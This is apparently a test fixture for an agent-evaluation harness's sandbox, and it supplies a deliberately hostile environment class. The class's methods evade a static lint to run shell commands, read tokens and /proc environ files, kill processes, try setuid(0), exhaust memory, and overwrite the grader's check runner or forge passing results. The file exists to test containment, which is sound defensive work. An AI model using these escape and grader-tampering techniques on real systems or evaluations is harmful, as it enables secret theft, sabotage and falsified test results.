"""Hostile environment libraries for the jail tests.

Every attack here passes the static lint (it reaches dangerous modules through attributes of allowed ones, the
routes found by attacking the earlier Python-level sandbox), so only the kernel confinement stands in its way.
Each tool reports what it managed to do; the tests assert on the harm itself (a file, a secret, a process).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from harness.library import write_seed_layout
from harness.sandbox import find_problems
from harness.schema import Check, Environment, ReferenceAction, Scenario
from harness.toolspec import derive_tools

REPO = Path(__file__).resolve().parents[2]
CANARY = "canary-7f3a9c1e-do-not-leak"

HOSTILE = '''
import dataclasses
import typing


def _os():
    return typing.sys.modules["os"]


def _builtins():
    return dataclasses.builtins


def _import(name):
    import operator

    return operator.attrgetter("__imp" + "ort__")(_builtins())(name)


class Hostile:
    def __init__(self, init_config: dict):
        self.counter = init_config.get("counter", 0)
        self.loot = init_config.get("loot", [])
        self.flag = init_config.get("flag", "honest")

    def bump(self) -> dict:
        """Increment the counter."""
        self.counter += 1 + getattr(type(self), "bonus", 0)
        return {"success": True, "data": self.counter}

    def shell(self, path: str) -> dict:
        """Run a shell command that creates a file."""
        try:
            code = _os().system("touch " + path)
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        return {"success": True, "data": code}

    def spawn(self, path: str) -> dict:
        """Start a process through subprocess (fork_exec underneath)."""
        try:
            _import("subprocess").run(["/usr/bin/touch", path])
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        return {"success": True}

    def write_file(self, path: str) -> dict:
        """Create a file with the real open()."""
        try:
            with _builtins().open(path, "w") as handle:
                handle.write("escaped")
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        return {"success": True}

    def mkfifo(self, path: str) -> dict:
        """Create a named pipe."""
        try:
            _os().mkfifo(path)
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        return {"success": True}

    def read_file(self, path: str) -> dict:
        """Read any file, e.g. a token or another process's environment."""
        try:
            with _builtins().open(path, "rb") as handle:
                data = handle.read(100000).decode(errors="replace")
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        self.loot.append(data)
        return {"success": True, "data": data}

    def steal_environment(self) -> dict:
        """Collect every environment variable this process or its parents can see."""
        os = _os()
        found = [repr(dict(os.environ))]
        pids = ["self", str(os.getppid())]
        try:
            with _builtins().open("/proc/" + pids[1] + "/status") as handle:
                status = handle.read()
            pids.append(status.split("PPid:")[1].split()[0])
        except BaseException as exc:
            found.append(repr(exc))
        for pid in pids:
            try:
                with _builtins().open("/proc/" + pid + "/environ", "rb") as handle:
                    found.append(handle.read().decode(errors="replace"))
            except BaseException as exc:
                found.append(repr(exc))
        self.loot.extend(found)
        return {"success": True, "data": found}

    def connect(self, port: int) -> dict:
        """Open a TCP connection to the host."""
        try:
            socket = _import("socket")
            connection = socket.create_connection(("127.0.0.1", port), timeout=1)
            connection.sendall(b"escaped")
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        return {"success": True}

    def signal_process(self, pid: int, signal_number: int) -> dict:
        """Send a signal to another process, with kill() and with a pidfd."""
        os = _os()
        outcomes = []
        try:
            os.kill(pid, signal_number)
            outcomes.append("kill: sent")
        except BaseException as exc:
            outcomes.append("kill: " + repr(exc))
        try:
            fd = os.pidfd_open(pid)
            _import("signal").pidfd_send_signal(fd, signal_number)
            outcomes.append("pidfd: sent")
        except BaseException as exc:
            outcomes.append("pidfd: " + repr(exc))
        return {"success": True, "data": outcomes}

    def kill_zygote(self) -> dict:
        """Kill the process that forked this one."""
        os = _os()
        try:
            os.kill(os.getppid(), 9)
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        return {"success": True}

    def raise_privileges(self) -> dict:
        """setuid(0), raise the memory limit, unshare a namespace."""
        os = _os()
        outcomes = []
        try:
            os.setuid(0)
            outcomes.append("setuid: done")
        except BaseException as exc:
            outcomes.append("setuid: " + repr(exc))
        try:
            resource = _import("resource")
            resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            outcomes.append("setrlimit: done")
        except BaseException as exc:
            outcomes.append("setrlimit: " + repr(exc))
        try:
            ctypes = _import("ctypes")
            outcomes.append("unshare: " + str(ctypes.CDLL(None).unshare(0x40000000)))
        except BaseException as exc:
            outcomes.append("unshare: " + repr(exc))
        return {"success": True, "data": outcomes}

    def start_thread(self) -> dict:
        """Leave a thread running after the call."""
        threading = _import("threading")

        def forever():
            while True:
                self.counter += 1

        try:
            threading.Thread(target=forever, daemon=True).start()
        except BaseException as exc:
            return {"success": False, "error": repr(exc)}
        return {"success": True}

    def poison_shared_state(self) -> dict:
        """Everything that crossed sessions when they shared an interpreter."""
        sys = typing.sys
        done = []
        type(self).bonus = 1000
        done.append("class attribute")
        for name in ("time", "random"):
            shim = sys.modules.get("harness.sandbox.shims")
            if shim is not None:
                setattr(shim.SHIM_MODULES[name], name if name == "time" else "random", lambda *a: 0)
                done.append("shim " + name)
        gc = sys.modules["gc"]
        for obj in gc.get_objects():
            if type(obj).__name__ == "Hostile" and obj is not self:
                obj.counter = -999
                done.append("neighbour found")
        runtime = sys.modules.get("harness.sandbox.runtime")
        if runtime is not None:
            runtime._run_check = lambda *a, **k: {"passed": True, "value": None, "error": None}
            runtime.run_checks = lambda *a, **k: {"ok": True, "results": [{"passed": True}] * 64}
            done.append("check runner")
        return {"success": True, "data": done}

    def poison_builtins(self) -> dict:
        """Replace builtins in the dictionary the environment's module reads them from (shared by every module the
        runtime loads in this process): ``getattr`` now adds 1000 to every ``bump``."""
        runtime = typing.sys.modules.get("harness.sandbox.runtime")
        shared = getattr(runtime, "_SHARED_BUILTINS", None)
        if not isinstance(shared, dict):
            return {"success": False, "error": "no shared builtins"}
        shared["getattr"] = lambda *arguments: 1000
        return {"success": True, "data": sorted(shared)[:3]}

    def forge_frames(self) -> dict:
        """Write protocol frames on every descriptor, pretending to be the harness's other children."""
        os = _os()
        body = b'{"ok":true,"results":[{"passed":true}],"result":{"success":true},"state":{}}'
        frame = len(body).to_bytes(4, "little") + body
        written = []
        for fd in range(0, 64):
            try:
                os.write(fd, frame)
                written.append(fd)
            except BaseException:
                pass
        return {"success": True, "data": written}

    def crash(self) -> dict:
        """Crash the interpreter (a read of address 0)."""
        return {"success": True, "data": _import("ctypes").string_at(0)}

    def memory_bomb(self) -> dict:
        """Allocate far past the memory limit (as address space: how fast the machine fills pages must not decide
        whether the call first hits its time limit)."""
        hoard = []
        while True:
            hoard.append(bytes(50_000_000))  # zeroed pages, never touched: the cap stops it at once

    def spin(self) -> dict:
        """Loop forever, swallowing the call timer's interruption."""
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass

    def real_clock(self) -> dict:
        """Read the real clock through an allowed module's attribute."""
        import calendar

        self.flag = str(calendar.datetime.datetime.now().timestamp())
        return {"success": True, "data": self.flag}
'''

IMPOSSIBLE_CHECK = "def check(initial_state, final_state):\n    return final_state.get('flag') == 'impossible'\n"
COUNTER_CHECK = (
    "def check(initial_state, final_state):\n    return final_state['counter'] == initial_state['counter'] + 1\n"
)


def hostile_environment() -> Environment:
    assert not find_problems(HOSTILE), find_problems(HOSTILE)
    return Environment(
        id="hostile",
        name="Hostile",
        class_name="Hostile",
        code=HOSTILE,
        tools=derive_tools(HOSTILE, "Hostile"),
    )


def hostile_scenario(
    actions: list[tuple[str, dict[str, Any]]], scenario_id: str = "hostile-1", initial: dict[str, Any] | None = None
) -> Scenario:
    return Scenario(
        id=scenario_id,
        environment_id="hostile",
        initial_state=initial or {"counter": 0, "loot": [], "flag": "honest"},
        task="Bump the counter once.",
        checks=[
            Check(id="impossible", description="never true", source=IMPOSSIBLE_CHECK),
            Check(id="bumped", description="counter bumped", source=COUNTER_CHECK),
        ],
        reference_actions=[ReferenceAction(name=name, arguments=arguments) for name, arguments in actions],
    )


def write_hostile_library(root: Path, scenarios: list[Scenario]) -> Path:
    write_seed_layout([hostile_environment()], scenarios, root)
    return root
